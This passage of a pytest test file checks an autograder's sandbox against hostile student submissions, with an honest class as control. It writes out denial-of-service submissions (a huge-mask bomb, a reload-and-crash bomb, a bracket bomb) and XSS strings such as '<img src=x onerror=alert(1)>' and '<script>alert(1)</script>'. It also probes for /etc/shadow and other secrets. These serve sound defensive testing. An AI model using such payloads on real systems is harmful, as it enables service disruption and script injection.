          cli: tuple[str, ...] = ("-m", "grader")) -> tuple[subprocess.Popen[str], float]:
    """Start grading ``class_dir`` with the real CLI (output to files beside ``out``), with
    more ``options``; ``cli``: how the interpreter is told to run it."""
    logs = out.parent / f"{out.name}.log"
    proc = subprocess.Popen(
        [
            sys.executable,
            *cli,
            "grade",
            str(class_dir),
            "--out",
            str(out),
            "--seed",
            str(SEED),
            "--jobs",
            "2",
            "--no-progress",
            "--assignment",
            str(assignment),
            *options,
        ],
        stdout=open(logs, "w"),
        stderr=subprocess.STDOUT,
        text=True,
    )
    return proc, time.monotonic()


def finish(started: tuple[subprocess.Popen[str], float], out: Path) -> Run:
    proc, began = started
    proc.wait(timeout=240)
    seconds = time.monotonic() - began
    leftovers = hostile_leftovers()  # right after the run: the daemons sleep 2 s before striking
    log = (out.parent / f"{out.name}.log").read_text(encoding="utf-8")
    assert proc.returncode == 0, log[-5000:]
    raw = (out / "grades.csv").read_bytes().decode("utf-8")
    lines = {line.split(",", 1)[0]: line for line in raw.splitlines()[1:]}
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        grades = {
            row["student"]: {k: float(v) for k, v in row.items() if k != "student" and v != ""}  # "": not graded
            for row in csv.DictReader(handle)
        }
    data = json.loads((out / "results.json").read_text(encoding="utf-8"))
    results = {s["student"]: s for s in data["students"]}
    return Run(out, log, seconds, lines, grades, results, data["run"], leftovers)


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corpus]:
    tmp = tmp_path_factory.mktemp("hostile")
    config = yaml.safe_load(DEFAULT_ASSIGNMENT.read_text(encoding="utf-8"))
    config["limits"]["item_seconds"] = ITEM_SECONDS
    config["limits"]["load_seconds"] = LOAD_SECONDS
    # A copy of the bundle's private parts where other users cannot read them (pytest's folder
    # is mode 700): on a root grader's rung without namespaces or Landlock, file permissions
    # alone keep them from the sandboxes, and a run refuses secrets that others can read.
    private = tmp / "private"
    for name, source in (("checks", _BUNDLE.root / "checks"), ("reference", _BUNDLE.reference_dir),
                         ("catalogue", _BUNDLE.catalogue_dir)):
        shutil.copytree(source, private / name, ignore=shutil.ignore_patterns("__pycache__"))
    config["bundle"] = {**config["bundle"], "checks": str(private / "checks"),
                        "reference": str(private / "reference"), "catalogue": str(private / "catalogue")}
    assignment_path = tmp / "assignment.yaml"
    assignment_path.write_text(yaml.safe_dump(config), encoding="utf-8")
    # The YAML alone, not the bundle: this process has the reference imported.
    assignment = parse_assignment(read_yaml(Path(assignment_path)), Path(assignment_path))

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    hostile_class, honest_class = tmp / "class", tmp / "honest_class"
    out, honest_out = tmp / "out", tmp / "honest_out"
    marker = tmp / "unpickled"
    sparse = tmp / "sparse.ipynb"  # 4 GiB that take no room: read whole, they would take the worker's memory
    with open(sparse, "wb") as handle:
        handle.truncate(4 << 30)
    paths = {
        "PROJECT": str(PROJECT_ROOT),
        "CLASS": str(hostile_class),
        "OUT": str(out),
        "TOKEN": TOKEN,
        "PORT": str(listener.getsockname()[1]),
        "MARKER": str(marker),
        "MAX_FRAME": str(MAX_FRAME),
        "PRIVATE": str(private),
        "SPARSE": str(sparse),
    }
    write_class(hostile_class, {**HONEST, **HOSTILE}, paths)
    write_class(honest_class, HONEST, paths)
    before = digest(hostile_class)
    ours = descendants()
    # Both runs at once (each spends seconds importing torch); the honest one is the control.
    with runs_adopted():
        hostile_run = start(hostile_class, out, assignment_path)
        honest_run = start(honest_class, honest_out, assignment_path)
    try:
        hostile = finish(hostile_run, out)
        pending = bool(select.select([listener], [], [], 0)[0])
        listener.close()
        honest = finish(honest_run, honest_out)
        # Each run's main process waits for its warm image, which waits for its workers and
        # zygotes, each zygote ending its sandboxes first. A process that is gone or exiting (no
        # command line left) by the time it is read is no stray.
        hostile.strays = [(pid, f"{line} [{_status(pid)}]") for pid in sorted(descendants() - ours)
                          if (line := _cmdline(pid)).strip() not in ("", "(ended)")]
    finally:
        listener.close()
        for proc, _ in (hostile_run, honest_run):
            if proc.poll() is None:
                proc.kill()
                proc.wait()
    yield Corpus(
        assignment, hostile_class, hostile, honest, pending, before, digest(hostile_class), marker
    )


@functools.cache
def inprocess(assignment: Assignment, notebook: str, code: str) -> dict[str, float]:
    """Each item's points for the reference with ``code`` appended, graded in this process."""
    base = NUMPY if notebook == "attention_numpy" else TORCH
    runner = InProcessRunner.from_source(
        SourceFile(notebook, f"{notebook}.py", (Cell(1, appended(code, base)),))
    )
    return {
        item.name: run_item(item, runner, SEED, _BUNDLE.checks)[0].earned for item in assignment.items_of(notebook)
    }


# Degraded mode gives up secrecy (and says so): there, these may find and use the reference.
READS_THE_REFERENCE = {"import_reference", "walk_disk"}


def degraded() -> bool:
    return probe().name == DEGRADED


def expected(corpus: Corpus, student: Student) -> dict[str, float]:
    points = {}
    for item in corpus.assignment.items:
        source = student.numpy if item.notebook == "attention_numpy" else student.torch
        points[item.name] = 0.0 if source is None or item.name in student.zero else item.points
    for item_name, code in student.control.items():
        notebook = corpus.assignment.item(item_name).notebook
        points[item_name] = inprocess(corpus.assignment, notebook, code)[item_name]
    return points


# ---- the tests ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_each_hostile_student_gets_exactly_its_grade(corpus, name):
    student = HOSTILE[name]
    want = expected(corpus, student)
    got = corpus.hostile.grades[name]
    full = corpus.assignment.item("softmax").points
    if degraded() and (name in READS_THE_REFERENCE or (name == "read_secrets" and os.geteuid() != 0)) \
            and got["softmax"] == full:
        want["softmax"] = full  # allowed in degraded mode, and nowhere else: it read the reference
    wrong = {
        item: (got[item], points) for item, points in want.items() if abs(got[item] - points) > 1e-9
    }
    result = corpus.hostile.results[name]
    why = {
        i["name"]: [c["message"] for c in i["checks"] if not c["passed"]][:2]
        for i in result["items"]
        if i["name"] in wrong
    }
    assert not wrong, (
        f"{name}: item -> (got, expected): {wrong}; why: {why}; notebooks: {result['notebooks']}"
    )
    assert abs(got["score"] - sum(want.values())) < 1e-9


def test_a_hostile_mistake_costs_what_the_same_mistake_costs_without_hostility(corpus):
    maxima = {item.name: item.points for item in corpus.assignment.items}
    cheats = () if degraded() else tuple(sorted(READS_THE_REFERENCE))
    secrets = ("read_secrets",) if not degraded() or os.geteuid() == 0 else ()
    for name in ("control_nan", "monkeypatch", *cheats, *secrets, "tiny_inputs"):
        assert corpus.hostile.grades[name]["softmax"] < maxima["softmax"], name
    assert corpus.hostile.grades["monkeypatch"]["MultiHeadAttention"] < maxima["MultiHeadAttention"]


def test_honest_rows_are_byte_identical_to_a_run_without_the_hostile_students(corpus):
    assert set(corpus.honest.lines) == set(HONEST)
    for name in HONEST:
        assert corpus.hostile.lines[name] == corpus.honest.lines[name], name
    # Every item's points; its written answers await a grader.
    assert corpus.honest.grades["honest_ref"]["score"] == corpus.assignment.items_points
    partial = corpus.honest.grades["honest_partial"]
    assert 0 < partial["score"] < partial["max_score"]


def test_every_student_has_a_row_and_the_grader_never_failed(corpus):
    assert set(corpus.hostile.grades) == set(HONEST) | set(HOSTILE)
    for name, result in corpus.hostile.results.items():
        for item in result["items"]:
            assert "the grader itself failed" not in (item["error"] or ""), name


def test_no_hostile_process_outlives_the_run(corpus):
    # Measured right after each CLI run returned: the daemons sleep 2 s before striking.
    assert corpus.hostile.leftovers == []
    assert corpus.honest.leftovers == []
    # A fork swarm's members too (they name themselves python).
    assert corpus.hostile.strays == [], corpus.hostile.log[-3000:] + corpus.honest.log[-3000:]


def test_a_stray_of_a_run_would_be_seen_whatever_its_uid():
    # What test_no_hostile_process_outlives_the_run counts as strays: a process that outlives
    # the one that started it (a shell that leaves a sleeper behind; as root, under a sandbox's
    # uid of its own) comes back to this test, and is counted.
    before = descendants()
    uid = uid_block(os.getpid())[1] if os.geteuid() == 0 else None
    with runs_adopted():
        shell = subprocess.run(["sh", "-c", "sleep 600 >/dev/null 2>&1 & echo $!"], capture_output=True, text=True,
                               user=uid, check=True, timeout=60)
    orphan = int(shell.stdout)
    try:
        assert orphan in descendants() - before
        assert f"PPid:\t{os.getpid()}\n" in Path(f"/proc/{orphan}/status").read_text()
    finally:
        os.kill(orphan, signal.SIGKILL)
        os.waitpid(orphan, 0)


def test_the_output_and_class_folders_are_untouched(corpus):
    assert corpus.class_digest_after == corpus.class_digest_before
    raw = (corpus.hostile.out / "grades.csv").read_text(encoding="utf-8")
    assert "pwned" not in raw and raw.startswith("student,score,max_score,")
    assert not (corpus.class_dir / "honest_ref" / "attention_numpy.py~").exists()


def test_nothing_reached_the_loopback_listener(corpus):
    assert corpus.listener_pending is False
    output = corpus.hostile.results["loopback"]["notebooks"][0]["output"]
    assert "no network" in output


def test_submitted_links_and_special_files_are_refused_in_words_never_read(corpus):
    results = corpus.hostile.results

    def failures(name: str) -> dict[str, str]:
        return {nb["notebook"]: nb["failure"] for nb in results[name]["notebooks"]}

    for name in ("link_reference", "link_secrets"):
        assert failures(name) == {nb: f"{nb}.py {REFUSED_LINK}" for nb in ("attention_numpy", "attention_torch")}
    for name in ("link_classmate", "link_sparse"):
        assert failures(name) == {"attention_numpy": f"attention_numpy.py {REFUSED_LINK}", "attention_torch": None}
    assert failures("fifo_and_kmsg")["attention_numpy"].startswith(f"attention_numpy.py {REFUSED_SPECIAL}")
    assert failures("fifo_and_kmsg")["attention_torch"] == f"attention_torch.py {REFUSED_LINK}"
    folder = "the student's folder link_folder is a symbolic link: not read; submit the files themselves"
    assert set(failures("link_folder").values()) == {folder}
    # Not a line of what the links point to reaches the student's results (cell labels, output).
    shown = json.dumps(results["link_secrets"]) + json.dumps(results["link_reference"])
    secrets = [corpus.class_dir.parent / "private" / "checks" / "masks.py", *corpus.class_dir.parent.glob(
        "private/reference/*.py"), Path("/etc/shadow")]
    # What this test's own user may read of them (as an ordinary user, /etc/shadow is not).
    lines = {line.strip() for path in secrets if path.is_file() and os.access(path, os.R_OK)
             for line in path.read_text().splitlines()}
    assert [line for line in lines if len(line) > 12 and json.dumps(line)[1:-1] in shown] == []


def test_ipython_rewriting_costs_the_trusted_side_nothing(corpus):
    results = corpus.hostile.results
    for name in ("ipython_bomb", "ipython_magics"):
        notebook = results[name]["notebooks"][0]
        assert notebook["failure"] is None and notebook["cell_errors"] == [], name
    # IPython's transformer held the worker that read this notebook for some 20 s.
    assert results["ipython_bomb"]["seconds"] < results["honest_ref"]["seconds"] + 5


def test_returned_objects_are_never_unpickled_or_converted(corpus):
    assert not corpus.marker.exists()
    softmax = next(
        i for i in corpus.hostile.results["pickle_bomb"]["items"] if i["name"] == "softmax"
    )
    assert "_Bomb" in softmax["checks"][0]["message"]


def test_reference_and_grader_cannot_be_imported_or_found(corpus):
    if degraded():
        pytest.skip("degraded mode gives up secrecy, and says so: a submission may read the "
                    "reference there (test_each_hostile_student_gets_exactly_its_grade allows "
                    "it for exactly these students)")
    output = corpus.hostile.results["import_reference"]["notebooks"][0]["output"]
    # Hidden by a mount: not there. Refused by Landlock: there, but unreadable.
    error = "PermissionError" if probe().landlock else "ModuleNotFoundError"
    assert f"import reference: {error}" in output and f"import grader: {error}" in output
    assert "found: None" in corpus.hostile.results["walk_disk"]["notebooks"][0]["output"]


def test_exits_and_crashes_are_reported(corpus):
    results = corpus.hostile.results
    assert any(
        "SystemExit" in error
        for _, error in results["exit_at_import"]["notebooks"][0]["cell_errors"]
    )
    assert results["system_exit_first"]["notebooks"][0]["cell_errors"] == [
        ["line 1 (raise SystemExit('before anything'))", "SystemExit: before anything"]]
    assert "stopped" in results["os_exit_at_import"]["notebooks"][0]["failure"]
    assert "took longer than" in results["sleep_at_import"]["notebooks"][0]["failure"]
    items = {i["name"]: i for i in results["exits_in_calls"]["items"]}
    assert "SystemExit" in items["softmax"]["checks"][0]["message"]
    assert "exited with status 0" in items["padding_mask"]["checks"][0]["message"]


def test_limits_cost_only_the_item(corpus):
    results = corpus.hostile.results

    def message(student: str, item: str) -> str:
        return next(i for i in results[student]["items"] if i["name"] == item)["checks"][0][
            "message"
        ]

    assert "MemoryError" in message("memory_bomb", "softmax")
    assert "time limit" in message("infinite_loop", "softmax")
    assert "time limit" in message("fork_swarm", "softmax")


def test_printed_floods_are_captured_and_capped(corpus):
    softmax = next(
        i for i in corpus.hostile.results["print_flood"]["items"] if i["name"] == "softmax"
    )
    cap = corpus.assignment.limits.output_kb * 1024
    assert len(softmax["output"].encode()) <= cap + 200
    assert softmax["output_dropped"] >= (50 << 20) - cap
    feedback = (corpus.hostile.out / "feedback" / "print_flood.md").read_text(encoding="utf-8")
    assert len(feedback) < cap + 20_000 and "more bytes of output were not kept" in feedback


def test_a_flood_of_cell_errors_is_capped_and_its_row_stays_small(corpus):
    result = corpus.hostile.results["cell_error_flood"]
    errors = result["notebooks"][0]["cell_errors"]
    assert len(errors) == CELL_ERRORS + 1
    assert errors[-1][1] == (f"... and {RAISING_CELLS - CELL_ERRORS} more cell(s) raised errors "
                             f"(only the first {CELL_ERRORS} are kept)")
    assert len(json.dumps(result)) < 500_000  # 50 errors of 2,000 characters, escaped


def test_a_reply_over_the_limit_costs_only_its_item_and_is_never_read(corpus):
    result = corpus.hostile.results["reply_bomb"]
    softmax = next(i for i in result["items"] if i["name"] == "softmax")
    limit = f"over the limit of {corpus.assignment.limits.reply_mb} MB (limits.reply_mb)"
    assert limit in softmax["checks"][0]["message"], softmax["checks"][0]["message"]
    # Refused from its header: the student's whole grading costs about what an honest one does.
    assert result["seconds"] < 2 * LOAD_SECONDS + ITEM_SECONDS, result["seconds"]


# ---- trusted work bounded by the limits, not by what arrives (#53) ---------------------------
# A class of its own, graded with the HTML pages beside its honest classmates' class, each run's
# main process and the processes under it measured (their peak RSS, from getrusage at its end).
# causal_mask's 10**7 rows of no columns are no entries: drawn, they made 2.2 GB of rows in the
# worker and the main process. A 2 s load with every function crashing was loaded again for
# each item. A 1 MB .py of unclosed brackets was parsed 21 times (2 to 6 s of the worker).
MASK_BOMB = """
def causal_mask(seq_len):
    return np.zeros((10**7, 0), dtype=bool)
"""
RELOAD_BOMB = """
import os as _os, time as _time
_time.sleep(2)

def _crash(*args, **kwargs):
    _os._exit(1)

for _name in @@ITEMS@@:
    globals()[_name] = _crash
"""
HOSTILE_WORK = {
    "mask_bomb": Student(appended(MASK_BOMB), TORCH, control=dict.fromkeys(NUMPY_ITEMS, MASK_BOMB)),
    "reload_bomb": Student(appended(RELOAD_BOMB.replace("@@ITEMS@@", repr(NUMPY_ITEMS))), TORCH, zero=NUMPY_ITEMS),
    "bracket_bomb": Student("(\n" * 500_000, TORCH, zero=NUMPY_ITEMS),
}
PEAK_MB = 1536  # no trusted process of the run grows past 1.5 GB
MEASURED = """import json, resource, sys
from grader.cli import main
status = main(sys.argv[2:])
peaks = {who: resource.getrusage(which).ru_maxrss // 1024
         for who, which in (("main", resource.RUSAGE_SELF), ("under it", resource.RUSAGE_CHILDREN))}
open(sys.argv[1], "w").write(json.dumps(peaks))
sys.exit(status)
"""


@dataclass
class Measured:
    hostile: Run
    honest: Run
    peaks: dict[str, dict[str, int]]  # run -> process -> MB


@pytest.fixture(scope="module")
def measured(corpus: Corpus) -> Measured:
    tmp = corpus.class_dir.parent / "work"
    write_class(tmp / "class", {**HONEST, **HOSTILE_WORK}, {})
    write_class(tmp / "honest_class", HONEST, {})
    runs = {}
    with runs_adopted():
        for name in ("class", "honest_class"):
            runs[name] = start(tmp / name, tmp / f"{name}_out", corpus.class_dir.parent / "assignment.yaml",
                               "--format", "csv,json,html", cli=("-c", MEASURED, str(tmp / f"{name}.peaks")))
    done = {name: finish(started, tmp / f"{name}_out") for name, started in runs.items()}
    peaks = {name: json.loads((tmp / f"{name}.peaks").read_text()) for name in runs}
    return Measured(done["class"], done["honest_class"], peaks)


@pytest.mark.parametrize("name", sorted(HOSTILE_WORK))
def test_work_the_limits_bound_costs_each_student_exactly_its_grade(corpus, measured, name):
    got, want = measured.hostile.grades[name], expected(corpus, HOSTILE_WORK[name])
    assert {item: got[item] for item in want} == want
    for honest in HONEST:
        assert measured.hostile.lines[honest] == measured.honest.lines[honest], honest


def test_no_trusted_process_grows_past_its_budget_and_the_run_stays_quick(measured):
    assert all(mb < PEAK_MB for run in measured.peaks.values() for mb in run.values()), measured.peaks
    assert measured.hostile.seconds < 2 * measured.honest.seconds, (measured.hostile.seconds, measured.honest.seconds)
    results = measured.hostile.results
    pictured = next(i for i in results["mask_bomb"]["items"] if i["name"] == "causal_mask")["examples"][0]
    assert pictured["student"] is None and "(10000000, 0)" in pictured["note"]
    assert (measured.hostile.out / "feedback" / "mask_bomb.html").stat().st_size < 1 << 20
    last = next(i for i in results["reload_bomb"]["items"] if i["name"] == NUMPY_ITEMS[-1])
    assert last["error"].startswith("not graded: this submission's notebooks were loaded again")
    honest = results["honest_ref"]["seconds"]
    assert results["reload_bomb"]["seconds"] < honest + 3 * LOAD_SECONDS, (results["reload_bomb"]["seconds"], honest)
    assert results["bracket_bomb"]["seconds"] < honest + 2 * LOAD_SECONDS, (results["bracket_bomb"]["seconds"], honest)


def test_the_run_stays_quick_and_names_its_rung(corpus):
    # Far inside the bound that holds on every rung: per student, the load and each item
    # within its own limit, over 2 workers.
    limits, assignment = corpus.assignment.limits, corpus.assignment
    per_student = (limits.load_seconds * len(assignment.notebooks)
                   + len(assignment.items) * limits.item_seconds)
    bound = len(corpus.hostile.grades) * per_student / 2
    assert corpus.hostile.seconds < min(120, bound), corpus.hostile.seconds
    rung = probe()
    sandbox = corpus.hostile.run["sandbox"]
    assert sandbox["mode"] == rung.name and f"sandbox: {rung.name}" in corpus.hostile.log
    assert sandbox["namespaces"] is rung.namespaces
    assert (sandbox["notes"] == []) is rung.namespaces


def _status(pid: int) -> str:
    """Where a stray comes from: its parent, uid, state and name."""
    try:
        lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    except OSError:
        return "ended"
    return "; ".join(line for line in lines if line.split(":")[0] in ("Name", "State", "PPid", "Uid", "NSpid"))


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return "(ended)"


def _output(corpus: Corpus, name: str) -> str:
    return "".join(notebook["output"] for notebook in corpus.hostile.results[name]["notebooks"])


def test_the_keyring_carries_no_answers_between_students(corpus):
    # The receivers' grades are the control's (test_each_hostile_student_gets_exactly_its_grade).
    for name in HOSTILE_CHANNELS:
        if name.startswith("a_keyring_sender_"):
            assert f"add_key: errno {errno.EPERM}" in _output(corpus, name), name
        elif name.startswith("keyring_receiver_"):
            assert f"keyctl search: errno {errno.EPERM}" in _output(corpus, name), name


def test_no_user_namespace_can_be_made(corpus):
    assert f"unshare: errno {errno.EPERM}" in _output(corpus, "unshare_user")


def test_a_students_text_forges_nothing_in_the_feedback(corpus):
    markdown = (corpus.hostile.out / "feedback" / "forged_feedback.md").read_text(encoding="utf-8")
    page = rendered(markdown)
    assert not {"a", "img"} & set(page.tags), page.tags
    assert page.tags.count("h1") == 1  # ours: the student's "# Score" is text
    assert "# Score: 155 / 155" in "".join(page.text)
    assert "[full marks](http://evil.example) <img src=x onerror=alert(1)>" in shown(markdown)


def test_a_students_html_is_text_where_a_platform_renders_html(corpus):
    forged = SubmissionResult.from_json(corpus.hostile.results["forged_feedback"])
    comment = html_comment(feedback_lines(forged))  # Moodle stores it as HTML
    assert "<" not in comment.replace("<br>", "") and "&lt;img src=x onerror=alert(1)&gt;" in comment
    assert "\x1b" not in json.dumps(prairielearn(forged), ensure_ascii=False)  # PrairieLearn's ansi2html


def test_a_message_that_lists_the_students_names_is_capped(corpus):
    mha = next(i for i in corpus.hostile.results["many_names"]["items"] if i["name"] == "MultiHeadAttention")
    messages = [check["message"] for check in mha["checks"]]
    assert max(map(len, messages)) <= ERROR_CHARS
    assert any(m.endswith("the contract's module has no other parameters") and "and 492 more" in m for m in messages)


def test_written_answers_are_bounded_text_never_run_and_shown_as_text(corpus):
    rows = {row["question"]: row for row in corpus.hostile.results["written_answers"]["written"]}
    cost, luong = rows["quadratic_cost"], rows["luong_compare"]
    assert len(cost["text"]) == MAX_ANSWER_CHARS and cost["status"] == "awaiting"
    assert "2 # answer: cells hold this answer" in cost["note"] and f"cut at {MAX_ANSWER_CHARS:,}" in cost["note"]
    assert luong["text"] is None and luong["status"] == "unanswered" and luong["earned"] == 0
    page = (corpus.hostile.out / "written" / "quadratic_cost.html").read_text(encoding="utf-8")
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    markdown = (corpus.hostile.out / "feedback" / "written_answers.md").read_text(encoding="utf-8")
    assert "awaits a grader" in markdown and not {"a", "img", "script"} & set(rendered(markdown).tags)
